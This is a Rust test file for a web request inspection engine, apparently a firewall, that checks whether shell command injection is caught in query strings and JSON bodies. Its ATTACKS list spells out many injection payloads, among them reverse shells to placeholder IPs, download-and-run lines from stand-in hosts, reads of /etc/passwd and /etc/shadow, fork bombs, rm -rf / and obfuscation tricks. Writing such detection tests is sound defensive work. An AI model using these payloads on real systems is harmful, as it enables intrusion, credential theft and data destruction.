//! What is a command for a shell, and what only looks like one.

mod honest;

use std::sync::{Arc, LazyLock};

use http::{HeaderMap, Method};
use proptest::prelude::*;

use honest::HONEST;

use crate::inspect::{Engine, Head, Profile, Report, RuleFile, Settings};

static PROFILE: LazyLock<Profile> = LazyLock::new(|| {
    let rules = RuleFile::ready_made().expect("ready-made rules");
    let engine = Arc::new(Engine::new(rules).expect("compiled"));
    Profile::new(engine, Settings::default()).expect("a profile")
});

/// What is said of a parameter with this value.
pub(in crate::inspect::detect) fn judge_query(name: &str, value: &[u8]) -> Report {
    let encoded = percent_encoding::percent_encode(value, percent_encoding::NON_ALPHANUMERIC);
    let query = format!("{name}={encoded}");
    let headers = HeaderMap::new();
    PROFILE.judge(&Head { method: &Method::GET, path: "/x", query: Some(&query), headers: &headers }, None)
}

/// What is said of a path.
pub(in crate::inspect::detect) fn judge_path(path: &str) -> Report {
    let headers = HeaderMap::new();
    PROFILE.judge(&Head { method: &Method::GET, path, query: None, headers: &headers }, None)
}

/// What is said of a JSON body with this value.
pub(in crate::inspect::detect) fn judge_json(name: &str, value: &str) -> Report {
    let mut headers = HeaderMap::new();
    headers.insert("content-type", http::HeaderValue::from_static("application/json"));
    let body = serde_json::json!({ name: value }).to_string();
    PROFILE.judge(&Head { method: &Method::POST, path: "/x", query: None, headers: &headers }, Some(body.as_bytes()))
}

/// The score that rules of these classes come to.
fn ours(report: &Report) -> u32 {
    report.findings.iter().filter(|finding| finding.rule.starts_with("shell.")).map(|finding| finding.score).sum()
}

const ATTACKS: &[&str] = &[
    "Thanks a lot for the quick reply, it works; cat /etc/passwd",
    "Thanks a lot for the quick reply, it works | nc 10.0.0.1 99 -e /bin/sh",
    "Thanks a lot for the quick reply, it works && curl http://evil.test/x -o /tmp/x",
    "Thanks a lot for the quick reply, it works $(curl http://evil.test/x.sh | sh)",
    "Thanks for all of it.\n\n; cat /etc/passwd\n\nIt came in time.\n\nBest wishes to you",
    "& p%comspec:~0,0%ing 1.1.1.1",
    "x&w!path:~-1!hoami",
    ";ip a",
    ";tclsh",
    ";id",
    "|id",
    "||id",
    "&&id",
    "`id`",
    "$(id)",
    "127.0.0.1;id",
    "127.0.0.1|id",
    "127.0.0.1 && id",
    "x;ls",
    "x.png; ls -la",
    "1;cat /etc/passwd",
    "1 | cat /etc/passwd",
    "127.0.0.1\nid",
    "127.0.0.1\n/usr/bin/id\n",
    "a\r\nwhoami",
    ";/usr/bin/id",
    "|/bin/ls -al",
    "';id;'",
    "\";id;\"",
    "x';cat flag.txt;#",
    "a);id",
    "x || whoami",
    "x & whoami",
    "& whoami /priv",
    "; ping -c 5 127.0.0.1",
    "& ping -n 30 127.0.0.1 &",
    "`ping -c 3 x.example`",
    ";sleep 10",
    "|sleep 5",
    "$(sleep 5)",
    "&& sleep 5 &&",
    "1;sleep${IFS}9;#${IFS}",
    ";echo 'x'",
    "& echo %username%",
    ";nslookup x.example",
    "$(nslookup x.example)",
    "`nslookup x.example`",
    "|curl http://x.example/`whoami`",
    ";wget http://x.example/a -O /tmp/a;chmod 777 /tmp/a;/tmp/a",
    "cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh",
    ";rm -rf /",
    "; rm -rf /*",
    ";uname -a",
    "|uname",
    "$(uname)",
    ";ps aux | grep root",
    ";netstat -an",
    ";ifconfig",
    "|ipconfig /all",
    "& dir c:\\",
    "| type c:\\windows\\win.ini",
    "& net user x y /add",
    "| net localgroup administrators",
    ";cat$IFS/etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";cat</etc/passwd",
    ";{cat,/etc/passwd}",
    "{cat,/etc/passwd}",
    ";w'h'oami",
    ";w\"h\"oami",
    ";w\\ho\\am\\i",
    ";who$@ami",
    ";who$()ami",
    "w'h'o'am'i",
    "c'a't /etc/passwd",
    "ca\\t /etc/passwd",
    "c$@at /etc/passwd",
    "/???/c?t /???/p??swd",
    ";/b?n/cat /etc/passwd",
    ";/bin/c?t x",
    "cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    "a=nc;$a -e /bin/sh 10.0.0.1 4444",
    ";bash<<<$(base64 -d<<<aWQ=)",
    ";echo aWQ= | base64 -d | sh",
    "echo aWQ=|base64 -d|bash",
    ";xxd -r -p <<< 6964",
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
    "nc -e /bin/sh 192.0.2.1 4444",
    ";nc 192.0.2.1 4444 -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
    ";python -c 'import os'",
    ";perl -e 'print 1'",
    "python3 -c \"import pty\"",
    ";php -r '$s=fsockopen(1);'",
    "socat tcp:192.0.2.1:80 exec:sh",
    "find . -exec /bin/sh \\;",
    "awk 'BEGIN {system(\"/bin/sh\")}' /etc/passwd",
    ";tar -cf /dev/null x --checkpoint=1",
    "vim -c ':!/bin/sh'",
    "sudo -u root id",
    "env x=1 sh -c id",
    "x;sudo cat /etc/shadow",
    "() { :;}; /bin/bash -c id",
    "() { _; } >_[$($())] { id; }",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "cmd /c dir",
    "cmd.exe /c whoami",
    "powershell -enc aQBkAA==",
    "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://x')",
    "p^ow^ers^hell -c whoami",
    "@^p^o^w^e^r^shell -c x",
    "& certutil -urlcache -f http://x.example/a.exe a.exe",
    "|bitsadmin /transfer x http://x.example/a c:\\a",
    "rundll32 javascript:x,y",
    "wmic process list /format:x",
    "& reg add HKLM\\x /v y",
    "for /d %x in (*) do type %x",
    "if exist c:\\x.txt echo yes",
    "IF \"%x%\"==\"1\" echo y",
    "Invoke-Expression $x",
    ";Get-Process | out-file x.txt",
    "/bin/sh -c id",
    "/usr/bin/perl -e 'x'",
    "c:\\windows\\system32\\cmd.exe /c dir",
    "perf --version",
    "ls -la /var",
    "cat /etc/hosts",
    "cat ../../config.php",
    "curl -s http://x.example | sh",
    "wget http://x.example/x.sh",
    "dd if=/etc/passwd of=/tmp/x",
    "alias ls=id",
    ">/tmp/x",
    "$SHELL -c id",
    "${SHELL} -c id",
    "~+",
    "!-1",
    "x|xargs cat",
    "1;busybox nc -l",
    "time sh -c id",
    "nohup curl http://x.example",
    "x`cat<<<id`",
    "\\ls",
    "'cat' /etc/passwd",
    "<(cat /etc/passwd)",
    "kill -9 1",
    "x');system('id');//",
    "__import__('os').system('id')",
    "require('child_process').exec('whoami')",
    "subprocess.check_output(['ls', '-l'])",
    "@{[system 'id']}",
    "; Get-Process -Name x",
    ";at 2:00 \"echo x\"",
    ";\\n.shell nc -e sh 192.0.2.1",
    "gpresult /r",
    "${IFS}id",
    "`sleep 5`",
    "|echo ABC",
    ";for i in 1; do echo x; done",
    "-oProxyCommand=id",
    "net user x y@z /add",
    "copy \\\\192.0.2.1\\x\\a.exe .",
    "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}",
    "kill '-'9",
    "ls;id",
    "|driverquery /v",
    ";kill 1",
    ";.shell id",
    ";. /tmp/x",
    "; . /tmp/x",
    "x;. ./x.sh",
    "127.0.0.1 && . ~/x",
    "$(. /dev/shm/x)",
    "|. /dev/stdin",
    ";source /tmp/x",
    ". /tmp/x",
    "; `id`",
    ";`id`",
    "x; `whoami`",
    "x || `id`",
    "x; then `id`",
    "a=1; then `id`; fi",
    "1; if true; then `id`; fi",
    "1; if true; then `id` foo; fi",
    "1; for x in 1; do `id` foo; done",
    "1; while true; do `id`; done",
    "1; if `id`; then x; fi",
    "Thanks a lot for the quick reply, it works; . /tmp/x",
];

#[test]
fn commands_are_found() {
    let missed: Vec<_> = ATTACKS.iter().filter(|value| ours(&judge_query("q", value.as_bytes())) < 5).collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

#[test]
fn what_only_looks_like_commands_passes() {
    let stopped: Vec<_> = HONEST
        .iter()
        .flat_map(|value| [judge_query("q", value.as_bytes()), judge_json("note", value)].map(|report| (value, report)))
        .filter(|(_, report)| ours(report) >= 5)
        .map(|(value, report)| (value, report.findings))
        .collect();
    assert!(stopped.is_empty(), "stopped: {stopped:#?}");
}

#[test]
fn names_are_sorted_and_found() {
    for name in ["awk", "whoami", "zypper", "%comspec%"] {
        assert!(super::commands::kind_of(name.as_bytes()).is_some(), "{name}");
    }
    assert!(super::commands::is_sorted());
    assert!(super::commands::kind_of(b"dog").is_none());
}

#[test]
fn the_name_of_a_parameter_tells_that_it_is_run() {
    for (name, value, want) in [
        ("cmd", "wget x", true),
        ("code", "ansible-vault decrypt x", true),
        ("q", "id", false),
        ("sort", "date", false),
        ("cmd", "list", false),
    ] {
        assert_eq!(judge_query(name, value.as_bytes()).is_attack, want, "{name}={value}");
    }
}

proptest! {
    #[test]
    fn no_bytes_panic(value in proptest::collection::vec(any::<u8>(), 0..200)) {
        judge_query("q", &value);
    }

    #[test]
    fn no_text_of_shells_panics(value in "[;|&`$(){}<>!~^%'\"\\\\ a-d/.?*\\[\\]\n=-]{0,120}") {
        judge_query("cmd", value.as_bytes());
    }
}
